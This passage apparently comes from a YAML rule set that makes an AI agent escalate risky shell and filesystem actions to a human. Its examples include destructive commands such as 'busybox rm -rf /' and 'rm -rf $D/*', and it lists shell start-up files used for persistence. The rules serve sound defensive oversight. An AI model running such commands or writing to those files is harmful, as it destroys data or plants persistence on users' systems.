      not_match: [{ target: { command: "docker run --rm -v ./src:/src x", argv: [docker, run, --rm, -v, "./src:/src", x], program: docker } }]

  - name: escalate-dynamic-destructive
    priority: 680
    match: { domain: command, command: ${
  programs("rm", "rmdir", "shred", "chmod", "chown", "chgrp", "dd", "truncate", "mkfs", "find")
} }
    condition: >-
      (target.get('dynamic') == True or target.get('origin') in ('xargs', 'parallel')) and
      target.program in ('rm', 'rmdir', 'shred', 'chmod', 'chown', 'chgrp', 'dd', 'truncate',
      'mkfs', 'find')
    action: escalate
    risk_level: high
    reason: A deleting or permission-changing command whose arguments are only known when it runs (rm -rf $DIR/*, xargs rm); a human decides, or spell the paths out
    examples:
      match:
        - { target: { command: "rm -rf $D/*", argv: [rm, -rf, "$D/*"], program: rm, dynamic: true } }
        - { target: { command: "rm -rf", argv: [rm, -rf], program: rm, origin: xargs, dynamic: false } }
      not_match: [{ target: { command: "rm -rf dist", argv: [rm, -rf, dist], program: rm, dynamic: false } }]

  - name: escalate-dynamic-interpreter-code
    priority: 680
    match: { domain: command, command: ${
  programs(
    "python*",
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "perl",
    "ruby",
    "node",
    "nodejs",
    "php",
    "deno",
    "bun",
    "lua",
    "pwsh",
    "osascript",
  )
} }
    condition: >-
      target.get('dynamic') == True and ((target.program or '').startswith('python') or
      target.program in ('sh', 'bash', 'zsh', 'dash', 'ksh', 'perl', 'ruby', 'node', 'nodejs', 'php',
      'deno', 'bun', 'lua', 'pwsh', 'osascript')) and any(a in ('-c', '-e', '-E', '-r', '--eval',
      '--command', 'eval') for a in (target.argv or [])[1:])
    action: escalate
    risk_level: high
    reason: Interpreter code that is only known when it runs (python -c "$(...)"); a human decides
    examples:
      match: [{ target: { command: "python3 -c \\"$X\\"", argv: [python3, -c, "$X"], program: python3, dynamic: true } }]

  - name: escalate-multicall-binaries
    priority: 680
    match: { domain: command, command: ${programs("busybox", "toybox")} }
    condition: "target.program in ('busybox', 'toybox') and len(target.argv or []) > 1"
    action: escalate
    risk_level: medium
    reason: busybox and toybox run any applet under their own name (busybox rm ...); a human decides, or call the program itself
    examples:
      match: [{ target: { command: "busybox rm -rf /", argv: [busybox, rm, -rf, /], program: busybox } }]

  - name: escalate-unknown-write-target
    priority: 680
    match: { domain: filesystem, operation: [write, append, create, copy, move, link, delete] }
    condition: "target.get('dynamic') == True"
    action: escalate
    risk_level: medium
    reason: The file a command writes is only known when it runs (> "$OUT", after cd in a subshell); a human decides, or name the file
    examples:
      match: [{ operation: write, target: { path: "/w/$OUT", dynamic: true } }]
      not_match: [{ operation: write, target: { path: /w/out.txt } }]

  - name: escalate-user-persistence-writes
    priority: 680
    match:
      domain: filesystem
      operation: [write, append, create, copy, move, link, truncate]
      path: ["~/.bashrc", "~/.bash_profile", "~/.bash_login", "~/.bash_logout", "~/.profile",
             "~/.zshrc", "~/.zprofile", "~/.zshenv", "~/.zlogin", "~/.config/fish/**",
             "~/.config/autostart/**", "~/.config/systemd/**", "~/.local/share/systemd/**",
             "~/.config/environment.d/**", "~/.pam_environment", "~/.xprofile", "~/.xinitrc",
             "~/.ssh/rc", "~/.gitconfig", "~/.config/git/config"]
    action: escalate
    risk_level: high
    reason: Shell start-up files and user services run on every login (persistence); a human decides
`;
